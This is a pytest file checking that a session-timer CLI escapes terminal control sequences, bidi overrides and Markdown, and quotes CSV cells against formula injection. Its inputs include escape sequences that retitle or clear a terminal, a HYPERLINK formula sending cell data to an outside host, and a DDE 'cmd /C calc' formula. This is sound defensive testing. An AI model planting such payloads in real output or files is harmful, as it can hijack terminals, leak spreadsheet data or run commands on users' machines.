"""Terminal escapes, newlines and formulas in user text: the CLI and the exports stay safe."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from pathlib import Path

import pytest
from review_journals import TZ, Session, known_session, write

from sessiontimer import cli
from sessiontimer.core.journal_read import read_journal
from sessiontimer.paths import AppPaths
from sessiontimer.review import export
from sessiontimer.review.edit import amend, rename_client

TITLE = "\x1b]0;owned\x07"
CLEAR = "\x1b[2J"
RED = "\x1b[31m"


def _hostile(app_paths: AppPaths) -> Path:
    """Anna's session, the client renamed to carry ESC [2J and a newline, a note amended."""
    path = known_session(app_paths.sessions_dir, "Anna")
    note = next(e["id"] for e in read_journal(path).events if e.get("type") == "note")
    when = datetime(2026, 10, 21, 9, 0).astimezone()
    amend(path, note, {"text": f"{TITLE}{RED}pwned"}, when)
    _planted_rename(path, f"A{CLEAR}\nB")
    return path


def _planted_rename(path: Path, name: str) -> None:
    """A rename written by hand, a sync tool or an earlier version: the app itself writes a
    new name as one line, each control a space."""
    events = read_journal(path).events
    last = max(int(str(e["id"])[1:]) for e in events)
    line = {"v": 1, "type": "amended", "id": f"e{last + 1}", "at": "2026-10-21T09:00:00.000+01:00",
            "t": events[-1]["t"], "note": "e1", "fields": {"client": name}}  # fmt: skip
    with path.open("a") as f:
        f.write(json.dumps(line, separators=(",", ":")) + "\n")


def _controls(text: str) -> list[str]:
    return [c for c in text if (ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) <= 0x9F]


def test_logs_list_and_show_escape_controls_and_newlines(
    app_paths: AppPaths, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _hostile(app_paths)
    assert cli.main(["logs", "list"]) == 0
    out = capsys.readouterr().out
    assert _controls(out) == [] and len(out.splitlines()) == 1  # no forged row
    assert "A\\x1b[2J\\nB" in out
    assert cli.main(["logs", "show", path.stem]) == 0
    out = capsys.readouterr().out
    assert _controls(out) == []
    assert "\\x1b]0;owned\\x07\\x1b[31mpwned" in out


def test_rename_and_amend_print_names_as_typed_with_controls_escaped(
    app_paths: AppPaths, capsys: pytest.CaptureFixture[str]
) -> None:
    """They printed ``repr``: every backslash doubled, quotes swapped, ESC as ``\\x1b``."""
    path = known_session(app_paths.sessions_dir, "Anna")
    new = f"O'Brien \\ {CLEAR}\nB"
    assert cli.main(["logs", "rename", "Anna", new]) == 0
    out = capsys.readouterr().out
    assert _controls(out) == [] and len(out.splitlines()) == 1
    assert out == "Renamed “Anna” to “O'Brien \\ [2J B” in 1 session(s).\n"
    assert cli.main(["logs", "rename", "Nobody \\ x", "Y"]) == 1
    assert "named exactly “Nobody \\ x”" in capsys.readouterr().err
    note = next(e["id"] for e in read_journal(path).events if e.get("type") == "note")
    assert cli.main(["logs", "amend", path.stem[:12], note, "--text", f"a \\ b {TITLE}"]) == 0
    out = capsys.readouterr().out
    assert _controls(out) == []
    assert out == f"Amended note {note}: text = “a \\ b \\x1b]0;owned\\x07”\n"


def test_json_stays_exact(app_paths: AppPaths, capsys: pytest.CaptureFixture[str]) -> None:
    _hostile(app_paths)
    assert cli.main(["logs", "list", "--json"]) == 0
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert rows[0]["client"] == f"A{CLEAR}\nB"


def test_markdown_escapes_markdown_and_drops_controls(
    app_paths: AppPaths, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _hostile(app_paths)
    rename_client(
        app_paths.sessions_dir, app_paths.state_dir, f"A{CLEAR}\nB", "[x](http://evil) *Ann*",
        datetime(2026, 10, 22, 9, 0).astimezone(),
    )  # fmt: skip
    assert cli.main(["logs", "export", path.stem, "--format", "md"]) == 0
    out = capsys.readouterr().out
    assert _controls(out) == []
    assert "\\[x\\]" in out and "\\*Ann\\*" in out and "[x](http" not in out


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x"&A1,"Click me")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-2",
             "\tx", "\rx"],
)  # fmt: skip
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(
    app_paths: AppPaths, tmp_path: Path, text: str
) -> None:
    s = Session(datetime(2026, 10, 20, 9, 0, tzinfo=TZ), client=text)
    s.add("note", 10, 0, region=None, key="n", text=text)
    path = write(app_paths.sessions_dir, s.wall, s.events, "aaaaaa")
    target = tmp_path / "out.csv"
    assert cli.main(["logs", "export", path.stem, "--format", "events", "-o", str(target)]) == 0
    with target.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [(r["client"], r["text"]) for r in rows] == [("'" + text, ""), ("'" + text, "'" + text)]
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())


def test_the_exports_registry_is_replaced_atomically(
    app_paths: AppPaths, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    export.record_export(app_paths.state_dir, tmp_path / "a.md", ["Anna"])
    before = (app_paths.state_dir / export.REGISTRY).read_bytes()

    def killed(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt  # as a kill between the write and the rename

    monkeypatch.setattr("os.replace", killed)
    with pytest.raises(KeyboardInterrupt):
        export.record_export(app_paths.state_dir, tmp_path / "b.md", ["Ben"])
    assert (app_paths.state_dir / export.REGISTRY).read_bytes() == before
    assert [e["clients"] for e in export.load_registry(app_paths.state_dir)] == [["Anna"]]
    assert list(app_paths.state_dir.glob("*.tmp")) == []


def test_a_damaged_journal_is_listed_as_damaged_and_the_others_still_listed(
    app_paths: AppPaths, capsys: pytest.CaptureFixture[str]
) -> None:
    known_session(app_paths.sessions_dir, "Anna", day=20, token="aaaaaa")
    planted = app_paths.sessions_dir / "2026" / "2026-10-21T090000-bbbbbb.jsonl"
    planted.write_bytes(b'{"v":1,"type":"session_started","x":"' + b"x" * (2 << 20) + b'"}\n')
    odd = known_session(app_paths.sessions_dir, "Ben", day=22, token="cccccc")
    odd.write_text(odd.read_text().replace('"at":"2026-10-22T09:00:00', '"at":"garbage', 1))
    assert cli.main(["logs", "list"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert len(out) == 3
    assert any("bbbbbb  DAMAGED: line 1 is 2,097," in line for line in out)
    assert any("cccccc  DAMAGED" in line and "start time" in line for line in out)
    assert any("Anna" in line and "complete" in line for line in out)
    from sessiontimer.review.history import stats
    from sessiontimer.review.summary import summarize

    journals = sorted(app_paths.sessions_dir.glob("*/*.jsonl"))
    assert stats([summarize(p, app_paths.sessions_dir) for p in journals]).sessions == 1


CSI8 = "\x9b"  # C1 CSI: json.dumps(ensure_ascii=False) leaves it as it is


def test_json_output_escapes_c1_controls_and_stays_exact(
    app_paths: AppPaths, capsys: pytest.CaptureFixture[str]
) -> None:
    """`logs list --json` and `logs export --format json` printed C1 controls and DEL raw
    (JSON escapes only C0): the same value, written as \\u009b, cannot drive a terminal."""
    name = f"A{CSI8}2JB\x7f"
    path = known_session(app_paths.sessions_dir, name)
    assert cli.main(["logs", "list", "--json"]) == 0
    out = capsys.readouterr().out
    assert _controls(out) == [] and json.loads(out)["client"] == name
    assert cli.main(["logs", "export", path.stem, "--format", "json"]) == 0
    out = capsys.readouterr().out
    assert _controls(out) == [] and json.loads(out)["sessions"][0]["client"] == name


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("fmt", ["csv", "events"])
def test_csv_printed_on_a_terminal_shows_controls_escaped(
    app_paths: AppPaths, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, fmt: str
) -> None:
    """A CSV export printed on a terminal (no -o) carried a note's ESC ] 0 (the terminal's
    title) and ESC [ 2J raw; written to a file or a pipe it stays exact."""
    path = _hostile(app_paths)
    s = Session(datetime(2026, 10, 20, 9, 0, tzinfo=TZ), client="Ben")
    s.add("note", 10, 0, region=None, key="n", text=f"{TITLE}{CLEAR}", tag=f"{RED}heat")
    s.add("pain", 11, 0, value=4, region=f"{CLEAR}sacrum")
    ben = write(app_paths.sessions_dir, s.wall, s.events, "bbbbbb")
    screen = _Terminal()
    monkeypatch.setattr("sys.stdout", screen)
    assert cli.main(["logs", "export", path.stem, ben.stem, "--format", fmt]) == 0
    shown_out = screen.getvalue()
    assert _controls(shown_out) == []
    assert "\\x1b[2J" in shown_out
    target = tmp_path / "out.csv"
    assert (
        cli.main(["logs", "export", path.stem, ben.stem, "--format", fmt, "-o", str(target)]) == 0
    )
    assert CLEAR in target.read_text(encoding="utf-8")


BIDI = "\u202e\u2066\u2067\u2068\u2069\u202a\u202b\u202c\u202d"  # overrides, isolates, embeddings


def test_logs_list_and_show_escape_bidi_overrides(
    app_paths: AppPaths, capsys: pytest.CaptureFixture[str]
) -> None:
    """A right-to-left override in a client name or a note turns the rest of the printed
    line around on a terminal that does bidi (the "Trojan Source" trick): the columns after
    it read backwards, and a note can pass for another. Printed escaped, like controls;
    letters of right-to-left scripts stay as they are."""
    path = known_session(app_paths.sessions_dir, "Anna")
    note = next(e["id"] for e in read_journal(path).events if e.get("type") == "note")
    when = datetime(2026, 10, 21, 9, 0).astimezone()
    amend(path, note, {"text": f"ok{BIDI}שלום"}, when)
    rename_client(app_paths.sessions_dir, app_paths.state_dir, "Anna", "\u202eannA", when)
    assert cli.main(["logs", "list"]) == 0
    out = capsys.readouterr().out
    assert not set(BIDI) & set(out) and "\\u202eannA" in out
    assert cli.main(["logs", "show", path.stem]) == 0
    out = capsys.readouterr().out
    assert not set(BIDI) & set(out)
    assert "ok\\u202e\\u2066\\u2067\\u2068\\u2069\\u202a\\u202b\\u202c\\u202dשלום" in out
    assert cli.main(["logs", "list", "--json"]) == 0
    (row,) = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert row["client"] == "\u202eannA"  # JSON lines stay exact
